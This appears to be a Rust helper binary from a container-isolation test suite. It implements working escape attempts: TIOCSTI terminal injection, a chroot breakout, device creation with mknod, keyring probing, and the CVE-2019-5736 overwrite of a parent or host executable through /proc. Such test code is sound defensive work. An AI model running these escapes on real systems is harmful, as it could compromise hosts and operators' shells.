//! `pod-attack`: the hostile half of the escape tests. The tests put this static binary into
//! an image they build and run one subcommand in a pod; it tries one way out and prints what
//! happened, one `key: value` line per finding, for the test to assert on. It never decides
//! whether an attack "should" work: the test does.
//!
//! ```text
//! pod-attack tiocsti TEXT      push TEXT into the input queue of the terminals on fds 0-2
//! pod-attack chroot-escape     the classic escape of a chrooted root process
//! pod-attack exes              every process's executable, and whether it can be opened
//! pod-attack fds               the descriptors this process holds
//! pod-attack creds             session, ids and all five capability sets
//! pod-attack mknod PATH MAJ MIN   make a character device and write to it
//! pod-attack keyctl            read the session keyring (shared with the host if allowed)
//! pod-attack overwrite-parent-exe REPORT
//!                              CVE-2019-5736: keep the parent's executable open (O_PATH),
//!                              and once the parent exits, overwrite it; the outcome goes to
//!                              the file REPORT
//! pod-attack watch-exes REPORT SECS
//!                              the same, from a background process that watches every new
//!                              process of the pod for SECS seconds: any executable that is
//!                              not one of the image's is kept open and, at the end, written
//! ```
use std::ffi::CString;
use std::fs;
use std::io::{self, Write};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let out = match args
        .iter()
        .map(String::as_str)
        .collect::<Vec<_>>()
        .as_slice()
    {
        ["tiocsti", text] => tiocsti(text),
        ["chroot-escape"] => chroot_escape(),
        ["exes"] => exes(),
        ["fds"] => fds(),
        ["creds"] => creds(),
        ["mknod", path, major, minor] => mknod(path, major, minor),
        ["keyctl"] => keyctl(),
        ["overwrite-parent-exe", report] => overwrite_parent_exe(report),
        ["watch-exes", report, secs] => watch_exes(report, secs),
        _ => {
            eprintln!("usage: pod-attack tiocsti TEXT | chroot-escape | exes | fds | creds | mknod PATH MAJ MIN | keyctl | overwrite-parent-exe REPORT | watch-exes REPORT SECS");
            std::process::exit(2);
        }
    };
    print!("{out}");
    let _ = io::stdout().flush();
}

fn result(rc: libc::c_int) -> String {
    if rc < 0 {
        format!("error {}", io::Error::last_os_error())
    } else {
        "ok".into()
    }
}

fn cstr(s: &str) -> CString {
    CString::new(s).expect("no NUL in attack paths")
}

/// TIOCSTI on each of fds 0-2: with a terminal that belongs to the operator, each byte
/// would be typed into the operator's shell.
fn tiocsti(text: &str) -> String {
    let mut out = String::new();
    for fd in 0..3 {
        // SAFETY: isatty takes an integer.
        if unsafe { libc::isatty(fd) } != 1 {
            out.push_str(&format!("tiocsti fd {fd}: not a terminal\n"));
            continue;
        }
        let mut rc = 0;
        for b in text.bytes() {
            // SAFETY: TIOCSTI reads one byte through the pointer, a live local.
            rc = unsafe { libc::ioctl(fd, libc::TIOCSTI, &b) };
            if rc < 0 {
                break;
            }
        }
        out.push_str(&format!("tiocsti fd {fd}: {}\n", result(rc)));
    }
    out
}

/// mkdir x; chroot x (the cwd stays outside it); climb; chroot . — escapes a chroot for any
/// process with CAP_SYS_CHROOT. Then looks for what only exists above the app's root.
fn chroot_escape() -> String {
    let _ = fs::create_dir_all("/tmp/escape");
    let mut out = String::new();
    // SAFETY: valid C strings and plain calls; this process exists to try this.
    unsafe {
        out.push_str(&format!(
            "chroot: {}\n",
            result(libc::chroot(cstr("/tmp/escape").as_ptr()))
        ));
        for _ in 0..64 {
            libc::chdir(cstr("..").as_ptr());
        }
        out.push_str(&format!(
            "chroot .: {}\n",
            result(libc::chroot(cstr(".").as_ptr()))
        ));
    }
    for marker in ["/stage2-init", "/rkt", "/opt/stage2", "/etc/os-release"] {
        out.push_str(&format!("sees {marker}: {}\n", Path::new(marker).exists()));
    }
    out
}

/// For every process: its executable and whether it can be opened (the first step of
/// overwriting a host binary through /proc/<pid>/exe).
fn exes() -> String {
    let mut out = String::new();
    let Ok(entries) = fs::read_dir("/proc") else {
        return "proc: unreadable\n".into();
    };
    let mut pids: Vec<u32> = entries
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect();
    pids.sort_unstable();
    for pid in pids {
        let exe = format!("/proc/{pid}/exe");
        let target = fs::read_link(&exe)
            .map(|t| t.display().to_string())
            .unwrap_or_else(|e| format!("({e})"));
        // SAFETY: a valid C string; the descriptor is closed right away.
        let open = unsafe {
            let fd = libc::open(cstr(&exe).as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
            let r = result(fd);
            if fd >= 0 {
                libc::close(fd);
            }
            r
        };
        out.push_str(&format!("exe {pid} {target}: open {open}\n"));
    }
    out
}

/// The descriptors held, with what they point at (a leaked host descriptor shows up here).
fn fds() -> String {
    let mut out = String::new();
    let mut fds: Vec<u32> = fs::read_dir("/proc/self/fd")
        .map(|d| {
            d.flatten()
                .filter_map(|e| e.file_name().to_str()?.parse().ok())
                .collect()
        })
        .unwrap_or_default();
    fds.sort_unstable();
    for fd in fds {
        // The directory listing's own descriptor was open while it ran and is closed now.
        let Ok(target) = fs::read_link(format!("/proc/self/fd/{fd}")) else {
            continue;
        };
        let target = String::from_utf8_lossy(target.as_os_str().as_bytes()).into_owned();
        out.push_str(&format!("fd {fd}: {target}\n"));
    }
    out
}

/// Session, process group, ids, and the five capability sets from /proc/self/status.
fn creds() -> String {
    // SAFETY: plain calls without arguments.
    let (pid, sid, pgid) = unsafe { (libc::getpid(), libc::getsid(0), libc::getpgid(0)) };
    let mut out = format!("pid: {pid}\nsid: {sid}\npgid: {pgid}\n");
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    for line in status.lines() {
        if line.starts_with("Cap") || line.starts_with("Uid") || line.starts_with("NoNewPrivs") {
            out.push_str(line);
            out.push('\n');
        }
    }
    out
}

/// A character device made in `path`, then opened for writing.
/// KEYCTL_GET_KEYRING_ID of the session keyring: `keyctl: ok` or `keyctl: refused: EPERM`.
fn keyctl() -> String {
    const KEYCTL_GET_KEYRING_ID: libc::c_long = 0;
    const KEY_SPEC_SESSION_KEYRING: libc::c_long = -3;
    // SAFETY: plain integer arguments.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_GET_KEYRING_ID,
            KEY_SPEC_SESSION_KEYRING,
            0 as libc::c_long,
        )
    };
    if rc < 0 {
        let err = io::Error::last_os_error();
        let name = match err.raw_os_error() {
            Some(libc::EPERM) => "EPERM".to_string(),
            Some(libc::ENOSYS) => "ENOSYS".to_string(),
            _ => err.to_string(),
        };
        format!("keyctl: refused: {name}\n")
    } else {
        "keyctl: ok\n".into()
    }
}

fn mknod(path: &str, major: &str, minor: &str) -> String {
    let (Ok(major), Ok(minor)) = (major.parse::<u32>(), minor.parse::<u32>()) else {
        return "mknod: bad numbers\n".into();
    };
    let c = cstr(path);
    // SAFETY: valid C string and plain integers.
    let made = unsafe {
        libc::mknod(
            c.as_ptr(),
            libc::S_IFCHR | 0o666,
            libc::makedev(major, minor),
        )
    };
    let mut out = format!("mknod: {}\n", result(made));
    // SAFETY: as above; closed right after.
    let fd = unsafe { libc::open(c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    out.push_str(&format!("open: {}\n", result(fd)));
    if fd >= 0 {
        // SAFETY: writes one byte from a literal.
        let n = unsafe { libc::write(fd, b"x".as_ptr().cast(), 1) };
        out.push_str(&format!("write: {}\n", result(n as libc::c_int)));
        // SAFETY: closing the descriptor opened above.
        unsafe { libc::close(fd) };
    }
    out
}

/// The runc CVE-2019-5736 pattern: while our parent (whatever started us in the pod) runs,
/// its executable cannot be opened for writing (ETXTBSY), so keep an O_PATH descriptor of it;
/// a detached child reopens it for writing once the parent has exited.
fn overwrite_parent_exe(report: &str) -> String {
    // SAFETY: getppid takes no arguments.
    let parent = unsafe { libc::getppid() };
    let exe = format!("/proc/{parent}/exe");
    let target = fs::read_link(&exe)
        .map(|t| t.display().to_string())
        .unwrap_or_else(|e| format!("({e})"));
    // SAFETY: a valid C string and plain flags.
    let fd = unsafe { libc::open(cstr(&exe).as_ptr(), libc::O_PATH) };
    let mut out = format!("parent {parent} exe {target}: open O_PATH {}\n", result(fd));
    if fd < 0 {
        let _ = fs::write(report, "failed: parent executable not reachable\n");
        return out;
    }
    // SAFETY: fork in a single-threaded program; the child only makes plain calls and exits.
    match unsafe { libc::fork() } {
        0 => {
            // SAFETY: plain calls.
            unsafe { libc::setsid() };
            let reopen = format!("/proc/self/fd/{fd}");
            let mut outcome = String::from("failed: never writable\n");
            for _ in 0..100 {
                // SAFETY: a valid C string and plain flags.
                let w =
                    unsafe { libc::open(cstr(&reopen).as_ptr(), libc::O_WRONLY | libc::O_TRUNC) };
                if w >= 0 {
                    let payload = b"#!/bin/sh\necho pwned\n";
                    // SAFETY: writes a live buffer, then closes the descriptor opened above.
                    unsafe {
                        libc::write(w, payload.as_ptr().cast(), payload.len());
                        libc::close(w);
                    }
                    outcome = format!("written {target}\n");
                    break;
                }
                std::thread::sleep(std::time::Duration::from_millis(50));
            }
            let _ = fs::write(report, outcome);
            std::process::exit(0);
        }
        -1 => out.push_str("fork failed\n"),
        _ => out.push_str("waiting in the background\n"),
    }
    out
}

/// Forks a watcher that, for `secs` seconds, looks at every process of the pod as fast as it
/// can. Whatever runs a binary that is not the image's own (a host binary visible in the
/// pod's PID namespace, even for an instant) gets its executable held with O_PATH; when the
/// time is up, each held file is opened for writing and overwritten. Everything seen goes to
/// `report`.
fn watch_exes(report: &str, secs: &str) -> String {
    let Ok(secs) = secs.parse::<u64>() else {
        return "watch-exes: bad seconds\n".into();
    };
    // SAFETY: fork in a single-threaded program; the parent returns at once.
    match unsafe { libc::fork() } {
        0 => {}
        -1 => return "fork failed\n".into(),
        _ => return "watching in the background\n".into(),
    }
    // SAFETY: a plain call.
    unsafe { libc::setsid() };
    let own = |t: &str| t.starts_with("/bin/");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let mut seen: Vec<String> = Vec::new();
    let mut held: Vec<(String, libc::c_int)> = Vec::new();
    while std::time::Instant::now() < deadline {
        let Ok(entries) = fs::read_dir("/proc") else {
            break;
        };
        for entry in entries.flatten() {
            let name = entry.file_name();
            let Some(pid) = name
                .to_str()
                .filter(|n| n.bytes().all(|b| b.is_ascii_digit()))
            else {
                continue;
            };
            let exe = format!("/proc/{pid}/exe");
            let Ok(target) = fs::read_link(&exe) else {
                continue;
            };
            let target = target.display().to_string();
            if own(&target)
                || held.iter().any(|(t, _)| *t == target)
                || seen.iter().any(|s| s.starts_with(&format!("{target}:")))
            {
                continue;
            }
            // SAFETY: a valid C string and plain flags.
            let fd = unsafe { libc::open(cstr(&exe).as_ptr(), libc::O_PATH) };
            seen.push(format!("{target}: O_PATH {}", result(fd)));
            if fd >= 0 {
                held.push((target, fd));
            }
        }
    }
    let mut out = String::new();
    for line in &seen {
        out.push_str(&format!("seen {line}\n"));
    }
    for (target, fd) in held {
        let reopen = format!("/proc/self/fd/{fd}");
        // SAFETY: a valid C string and plain flags; closed right after.
        let w = unsafe { libc::open(cstr(&reopen).as_ptr(), libc::O_WRONLY | libc::O_APPEND) };
        if w >= 0 {
            // SAFETY: writes a live buffer, then closes the descriptor opened above.
            unsafe {
                libc::write(w, b"pwned".as_ptr().cast(), 5);
                libc::close(w);
            }
            out.push_str(&format!("written {target}\n"));
        } else {
            out.push_str(&format!("not written {target}: {}\n", result(w)));
        }
    }
    out.push_str("end\n");
    let _ = fs::write(report, out);
    std::process::exit(0);
}
